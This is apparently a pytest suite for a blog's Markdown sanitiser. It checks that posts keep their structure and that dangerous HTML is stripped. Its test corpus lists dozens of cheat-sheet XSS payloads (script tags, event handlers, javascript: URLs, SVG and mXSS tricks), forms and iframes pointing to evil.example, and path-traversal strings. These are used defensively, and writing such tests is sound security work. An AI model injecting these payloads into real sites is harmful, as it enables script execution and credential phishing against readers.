"""Posts are Markdown made safe: whatever an advisor (or a stolen account) types, the HTML
readers get runs no script, loads nothing from elsewhere and keeps its structure."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from blog.rendering import first_paragraph_text, reading_minutes, render_markdown, sanitise

# Payloads from the usual XSS cheat sheets, as Markdown or raw HTML in a post.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=/media/blog/a.jpg onerror=alert(1)>",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](  javascript:alert(1) )",
    "![x](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">css</p>',
    '<p style="background-image: url(javascript:alert(1))">css</p>',
    '<div style="behavior: url(x.htc)">ie</div>',
    '<img src="https://tracker.example/pixel.gif">',
    '<p id="maincontent" class="nhsuk-header">clobber</p>',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)//>",
    "<a href='x' onclick='alert(1)'>unclosed",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "<p>broken <b>nesting</p></b> <i>and <u>more",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://example.org" target="_blank">new tab</a>',
]

SAFE_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "strong", "em", "b", "i", "blockquote", "ul", "ol",
    "li", "code", "pre", "a", "img", "figure", "figcaption", "table", "thead", "tbody", "tr",
    "th", "td", "del", "sup", "sub",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
# A browser ignores tabs, new lines and control characters inside a URL's scheme.
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


def unsafe_url(value: str | None) -> bool:
    squeezed = "".join(ch for ch in (value or "") if ch > " ").lower()
    scheme = _SCHEME.match(squeezed)
    return bool(scheme) and scheme.group(1) not in SAFE_SCHEMES


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML (text is harmless)."""

    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def dangers(html: str) -> list[str]:
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag not in SAFE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "id", "class", "srcdoc", "formaction"}:
                problems.append(f"{tag} {name}")
            if name in {"href", "src"} and unsafe_url(value):
                problems.append(f"{tag} {name}={value}")
    return problems


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_rendering(payload, settings):
    settings.MEDIA_URL = "/media/"
    html = render_markdown(f"Some text.\n\n{payload}\n\nMore text.")
    assert dangers(html) == [], html
    assert "tracker.example" not in html
    assert "Some text." in html


def test_safe_links_are_kept_and_open_safely():
    html = render_markdown("[Our values](https://example.org/values) and [mail](mailto:a@b.org)")
    assert '<a href="https://example.org/values" rel="noopener noreferrer">Our values</a>' in html
    assert 'href="mailto:a@b.org"' in html


def test_pictures_are_kept_only_from_our_own_media(settings):
    settings.MEDIA_URL = "/media/"
    html = render_markdown("![A team meeting](/media/blog/abc/960.jpg)")
    assert 'src="/media/blog/abc/960.jpg"' in html
    assert 'alt="A team meeting"' in html
    outside = render_markdown("![A pixel](https://tracker.example/p.gif)")
    assert "tracker.example" not in outside


@pytest.mark.parametrize(
    "src",
    [
        "/media/../accounts/logout/",
        "/media/blog/../../teams/",
        "/media/%2e%2e/accounts/logout/",
        "/media/%252e%252e/accounts/logout/",
        "/media/..%5c..%5caccounts/",
    ],
)
def test_a_picture_cannot_climb_out_of_the_media_folder(settings, src):
    settings.MEDIA_URL = "/media/"
    assert "src=" not in render_markdown(f"![x]({src})")


def test_pictures_from_object_storage_are_kept_when_media_lives_there(settings):
    settings.MEDIA_URL = "https://media.example.org/"
    html = render_markdown("![Chart](https://media.example.org/blog/x/960.jpg)")
    assert 'src="https://media.example.org/blog/x/960.jpg"' in html


def test_structure_survives_sanitising():
    html = render_markdown(
        "# Title\n\n## Heading\n\n- one\n- two\n\n> quoted\n\n```\ncode <b>\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |"
    )
    # The page's own heading is the title: a post's top heading steps down one level.
    assert "<h1" not in html
    assert "<h2>Title</h2>" in html
    assert "<ul>" in html
    assert "<blockquote>" in html
    assert "<table>" in html
    assert "code &lt;b&gt;" in html


def test_broken_markup_is_closed():
    html = sanitise("<p>broken <b>nesting</p></b> <i>and <u>more")
    assert html.count("<b>") == html.count("</b>")
    assert html.count("<i>") == html.count("</i>")


def test_excerpt_is_the_first_paragraph_with_words_as_plain_text():
    html = render_markdown("![x](/media/a.jpg)\n\nWe **care** &amp; listen.\n\nSecond.")
    assert first_paragraph_text(html, limit=300) == "We care & listen."


def test_a_long_first_paragraph_is_cut_at_a_word():
    text = first_paragraph_text(render_markdown("word " * 200), limit=50)
    assert len(text) <= 50
    assert text.endswith("word…")


def test_reading_time_counts_words_at_two_hundred_a_minute():
    assert reading_minutes(render_markdown("word " * 10)) == 1
    assert reading_minutes(render_markdown("word " * 401)) == 3


def test_the_corpus_check_itself_spots_each_kind_of_danger():
    assert dangers('<a href="java\tscript:x">a</a>') == ["a href=java\tscript:x"]
    assert dangers('<p onclick="x" style="y">a</p>') == ["p onclick", "p style"]
    assert dangers("<svg></svg>") == ["<svg>"]
    assert dangers('<a href="/relative">a</a><a href="https://x.org">b</a>') == []
